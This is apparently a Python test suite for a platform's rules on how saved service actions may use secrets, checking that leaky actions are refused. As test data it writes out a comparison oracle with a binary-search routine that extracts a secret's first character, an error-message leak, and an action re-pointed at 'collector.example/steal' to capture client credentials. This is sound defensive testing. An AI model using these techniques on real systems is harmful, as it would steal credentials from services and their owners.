"""What saving an action may do with a secret (docs/action-language.md, docs/permissions.md): its
author needs `secrets.use` of what it reads and `secrets.read` of what it copies into another
secret; no action shows a secret or compares one with what a caller controls; runs need only
`services.run`."""

from __future__ import annotations

from typing import Any

import httpx
from fastapi import FastAPI

from tests.auth.conftest import Callers, assert_refused
from tests.conftest import (
    CLIENT_ID,
    CLIENT_SECRET,
    TokenServer,
    canonical_action,
    create_secret,
    secret_value,
    store_action_unchecked,
)

ORACLE = [
    {
        "type": "if",
        "condition": {
            "op": "lt",
            "left": "{{ secrets.CLIENT_SECRET }}",
            "right": "{{ request.query.g }}",
        },
        "then": [{"type": "end_execution", "response": "lt"}],
        "else": [{"type": "end_execution", "response": "ge"}],
    }
]


def service(slug: str, action: list[Any], **fields: Any) -> dict[str, Any]:
    """A service body with one endpoint `run`."""
    return {
        "slug": slug,
        "name": "Service",
        "endpoints": [{"readable_id": "run", "name": "Run", "action": action}],
        **fields,
    }


def client_credentials(token_url: str) -> list[dict[str, Any]]:
    """An action that sends the client's secrets to the token server and answers the lifetime
    of the token it got (not a secret)."""
    return [
        {
            "type": "web_request",
            "method": "POST",
            "url": token_url,
            "auth": {
                "type": "basic",
                "username": "{{ secrets.CLIENT_ID }}",
                "password": "{{ secrets.CLIENT_SECRET }}",
            },
            "body": {"form": {"grant_type": "client_credentials"}},
            "result_mapping": {"ttl": "$.expires_in"},
        },
        {"type": "end_execution", "response": {"ttl": "{{ vars.ttl }}"}},
    ]


def put_body(body: dict[str, Any]) -> dict[str, Any]:
    """A service body for PUT /v1/services/{slug} (the slug is in the path)."""
    return {key: value for key, value in body.items() if key != "slug"}


async def client_secrets(client: httpx.AsyncClient) -> None:
    """CLIENT_ID and CLIENT_SECRET, with the token server's client."""
    await create_secret(client, "CLIENT_ID", CLIENT_ID, environment_specific=False)
    await create_secret(client, "CLIENT_SECRET", CLIENT_SECRET, environment_specific=False)


async def first_character(http: httpx.AsyncClient, url: str) -> str:
    """The first character of the secret behind the issue's oracle, by binary search on `g`."""
    low, high = 32, 127  # printable ASCII: the answer is chr(k) for the largest k not above it
    while high - low > 1:
        middle = (low + high) // 2
        answer = await http.get(url, params={"g": chr(middle)})
        assert answer.status_code == 200, answer.text
        if answer.json()["response"] == "lt":  # secret < chr(middle)
            high = middle
        else:
            low = middle
    return chr(low)


class TestNoOracles:
    async def test_the_oracle_of_the_issue_is_refused_when_saved(
        self, client: httpx.AsyncClient, callers: Callers
    ) -> None:
        await client_secrets(client)
        # The owner holds every permission: no one may save it.
        response = await client.post("/v1/services", json=service("oracle", ORACLE))
        if response.status_code != 422:
            caller = await callers.holding("services.run:oracle")
            leaked = await first_character(caller, "/api/services/oracle/run")
            raise AssertionError(
                f"the oracle was saved ({response.status_code}); a caller holding only "
                f"services.run read the first character of CLIENT_SECRET: {leaked!r}"
            )
        error = response.json()["error"]
        assert error["type"] == "invalid_action"
        assert error["path"] == "endpoints[0].action[0].condition"
        assert error["message"].startswith(
            "endpoints[0].action[0].condition: 'lt' puts secret 'CLIENT_SECRET' against what "
            "the caller or an upstream controls"
        )
        assert CLIENT_SECRET not in response.text
        assert (await client.get("/v1/services/oracle")).status_code == 404

    async def test_a_put_is_checked_the_same(self, client: httpx.AsyncClient) -> None:
        await client_secrets(client)
        body = service("svc", [{"type": "log", "message": "fine"}])
        assert (await client.post("/v1/services", json=body)).status_code == 201
        leak = [
            {"type": "update_object", "values": {"s": "{{ secrets.CLIENT_SECRET }}"}},
            {"type": "throw", "status": 400, "message": "no: {{ vars.s }}"},
        ]
        response = await client.put("/v1/services/svc", json=put_body(service("svc", leak)))
        assert response.status_code == 422, response.text
        assert response.json()["error"]["path"] == "endpoints[0].action[1].message"
        stored = (await client.get("/v1/services/svc")).json()
        assert stored["endpoints"][0]["action"] == [{"type": "log", "message": "fine"}]

    async def test_an_action_saved_before_the_rules_still_runs(
        self, app: FastAPI, client: httpx.AsyncClient, callers: Callers
    ) -> None:
        # An inbound key check, as someone may have saved it: refused now, run as it was.
        await create_secret(
            client, "INBOUND_KEY", "inbound-canary-2f9e", environment_specific=False
        )
        action = [
            {
                "type": "if",
                "condition": {
                    "op": "equals",
                    "left": "{{ request.headers.x-key }}",
                    "right": "{{ secrets.INBOUND_KEY }}",
                },
                "then": [{"type": "end_execution", "response": "welcome"}],
                "else": [{"type": "throw", "status": 401, "message": "wrong key"}],
            }
        ]
        response = await client.post("/v1/services", json=service("gate", action))
        assert response.status_code == 422, response.text
        await store_action_unchecked(app, action, slug="gate")
        caller = await callers.holding("services.run:gate")
        right = await caller.get("/api/services/gate/run", headers={"x-key": "inbound-canary-2f9e"})
        assert right.status_code == 200, right.text
        assert right.json()["response"] == "welcome"
        wrong = await caller.get("/api/services/gate/run", headers={"x-key": "guess"})
        assert wrong.status_code == 401, wrong.text


class TestUseNeedsPermission:
    async def test_saving_an_action_that_reads_a_secret_needs_using_it(
        self, client: httpx.AsyncClient, callers: Callers, token_server: TokenServer
    ) -> None:
        await client_secrets(client)
        body = service("cc", client_credentials(token_server.token_url))
        manager = await callers.holding("services.manage", "secrets.use:CLIENT_ID")
        response = await manager.post("/v1/services", json=body)
        assert_refused(response, "secrets.use:CLIENT_SECRET")
        error = response.json()["error"]
        assert error["path"] == "endpoints[0].action[0].auth.password"
        assert error["message"].startswith(
            "endpoints[0].action[0].auth.password: saving this action needs the permission "
            "'secrets.use:CLIENT_SECRET'"
        )
        assert (await client.get("/v1/services/cc")).status_code == 404
        user = await callers.holding("services.manage", "secrets.use:CLIENT_*")
        assert (await user.post("/v1/services", json=body)).status_code == 201

    async def test_a_signing_key_is_used_too(
        self, client: httpx.AsyncClient, callers: Callers
    ) -> None:
        await create_secret(client, "SIGNING_KEY", "k" * 40, environment_specific=False)
        sign = {
            "type": "sign_jwt",
            "algorithm": "HS256",
            "key_secret": "SIGNING_KEY",
            "into": "jwt",
        }
        manager = await callers.holding("services.manage")
        response = await manager.post("/v1/services", json=service("sign", [sign]))
        assert_refused(response, "secrets.use:SIGNING_KEY")
        assert response.json()["error"]["path"] == "endpoints[0].action[0].key_secret"

    async def test_a_secret_only_written_needs_nothing_at_save_time(
        self, client: httpx.AsyncClient, callers: Callers
    ) -> None:
        await create_secret(client, "ACCESS_TOKEN")
        write = [
            {"type": "update_secret", "secret": "ACCESS_TOKEN", "value": "{{ request.query.t }}"}
        ]
        manager = await callers.holding("services.manage")
        response = await manager.post("/v1/services", json=service("w", write))
        assert response.status_code == 201, response.text

    async def test_changing_a_service_that_keeps_a_reference_needs_it(
        self, client: httpx.AsyncClient, callers: Callers, token_server: TokenServer
    ) -> None:
        await client_secrets(client)
        body = service("cc", client_credentials(token_server.token_url))
        assert (await client.post("/v1/services", json=body)).status_code == 201
        manager = await callers.holding("services.manage")
        # Re-pointing the owner's action at another host, and even renaming the service.
        elsewhere = client_credentials("https://collector.example/steal")
        for changed in (service("cc", elsewhere), {**body, "name": "Renamed"}):
            response = await manager.put("/v1/services/cc", json=put_body(changed))
            assert_refused(response, "secrets.use:CLIENT_ID")
        stored = (await client.get("/v1/services/cc")).json()
        assert stored["name"] == "Service"
        assert stored["endpoints"][0]["action"][0]["url"] == token_server.token_url

    async def test_running_needs_only_services_run(
        self, client: httpx.AsyncClient, callers: Callers, token_server: TokenServer
    ) -> None:
        await client_secrets(client)
        body = service("cc", client_credentials(token_server.token_url))
        assert (await client.post("/v1/services", json=body)).status_code == 201
        runner = await callers.holding("services.run:cc")
        response = await runner.post("/api/services/cc/run")
        assert response.status_code == 200, response.text
        assert response.json()["status"] == "succeeded"
        assert isinstance(response.json()["response"]["ttl"], int)
        [request] = token_server.state.requests
        assert request["client_id"] == CLIENT_ID


class TestNoLaundering:
    COPY = [{"type": "update_secret", "secret": "MINE", "value": "{{ secrets.CLIENT_SECRET }}"}]
    VIA_VARIABLE = [
        {"type": "update_object", "values": {"c": "{{ secrets.CLIENT_SECRET }}"}},
        {"type": "update_secret", "secret": "MINE", "value": "copy: {{ vars.c }}"},
    ]

    async def test_copying_a_secret_into_another_needs_reading_it(
        self, client: httpx.AsyncClient, callers: Callers
    ) -> None:
        await client_secrets(client)
        await create_secret(client, "MINE")
        author = await callers.holding("services.manage", "secrets.use:CLIENT_SECRET")
        for slug, action, path in (
            ("copy", self.COPY, "endpoints[0].action[0].value"),
            ("via", self.VIA_VARIABLE, "endpoints[0].action[1].value"),
        ):
            response = await author.post("/v1/services", json=service(slug, action))
            assert_refused(response, "secrets.read:CLIENT_SECRET")
            error = response.json()["error"]
            assert error["path"] == path
            assert "in secret 'MINE'" in error["message"]
            assert (await client.get(f"/v1/services/{slug}")).status_code == 404
        reader = await callers.holding(
            "services.manage", "secrets.use:CLIENT_SECRET", "secrets.read:CLIENT_SECRET"
        )
        response = await reader.post("/v1/services", json=service("copy", self.COPY))
        assert response.status_code == 201, response.text

    async def test_the_canonical_refresh_needs_no_read_permission(
        self, client: httpx.AsyncClient, callers: Callers, token_server: TokenServer
    ) -> None:
        await client_secrets(client)
        refresh_token = token_server.state.issue_refresh_token(CLIENT_ID)
        await create_secret(client, "REFRESH_TOKEN", refresh_token)
        await create_secret(client, "ACCESS_TOKEN")
        author = await callers.holding(
            "services.manage", "secrets.use:CLIENT_*", "secrets.use:REFRESH_TOKEN"
        )
        body = service("oauth", canonical_action(token_server.token_url))
        response = await author.post("/v1/services", json=body)
        assert response.status_code == 201, response.text
        runner = await callers.holding(
            "services.run:oauth",
            "secrets.update_from_service:ACCESS_TOKEN",
            "secrets.update_from_service:REFRESH_TOKEN",
        )
        ran = await runner.post("/api/services/oauth/run")
        assert ran.status_code == 200, ran.text
        assert token_server.state.is_active(await secret_value(client, "ACCESS_TOKEN"))
        assert await secret_value(client, "REFRESH_TOKEN") != refresh_token
